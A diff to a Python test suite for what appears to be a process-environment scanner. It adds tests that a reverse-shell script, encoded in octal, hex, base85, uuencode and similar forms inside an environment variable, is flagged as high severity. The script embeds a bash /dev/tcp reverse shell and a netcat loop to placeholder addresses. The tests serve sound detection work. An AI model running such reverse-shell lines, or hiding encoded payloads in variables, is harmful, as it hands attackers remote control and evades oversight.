@@ -2,9 +2,13 @@
 
 from __future__ import annotations
 
+import base64
+import binascii
+import hashlib
 import posixpath
 import stat
-from collections.abc import Iterable
+import zlib
+from collections.abc import Callable, Iterable
 
 import pytest
 
@@ -86,6 +90,39 @@ def test_a_harmful_environment_is_at_least_medium(
 @pytest.mark.parametrize("row", environments.HARMLESS, ids=lambda row: str(row[1])[:70])
 def test_an_environment_of_everyday_is_silent(row: tuple[tuple[str, ...], dict[str, str]]) -> None:
     assert found(with_environment(row)) == {}
+
+
+SCRIPT = (
+    b"#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.7/443 0>&1\nwhile :; do nc 192.0.2.9 4444; done\n"
+)
+NOISE = hashlib.sha512(b"noise").digest()
+
+
+@pytest.mark.parametrize(
+    "spelled",
+    [
+        lambda data: "".join(f"\\{byte:03o}" for byte in data),
+        lambda data: "".join(f"\\u{byte:04x}" for byte in data),
+        lambda data: "".join(f"%{byte:02X}" for byte in data),
+        lambda data: ", ".join(f"0x{byte:x}" for byte in data),
+        lambda data: data.hex(":"),
+        lambda data: base64.b85encode(data).decode(),
+        lambda data: base64.b85encode(zlib.compress(data)).decode(),
+        lambda data: base64.a85encode(zlib.compress(data)).decode(),
+        lambda data: "".join(
+            binascii.b2a_uu(data[at : at + 45]).decode() for at in range(0, len(data), 45)
+        ),
+    ],
+)
+def test_a_script_under_rarer_spellings_in_a_variable(spelled: Callable[[bytes], str]) -> None:
+    harmful = process(("sleep", "9"), environ=(f"STATE={spelled(SCRIPT)}",))
+    assert found(harmful)["environment-payload"].points >= Severity.HIGH.points
+    noise = process(("sleep", "9"), environ=(f"STATE={spelled(NOISE)}",))
+    assert worst(found(noise).values()) <= Severity.LOW.points
+
+
+def test_a_fingerprint_in_a_variable_is_silent() -> None:
+    assert found(process(("sleep", "9"), environ=(f"PIN={NOISE.hex(':').upper()}",))) == {}
 
 
 def test_what_a_child_inherits_is_information() -> None:
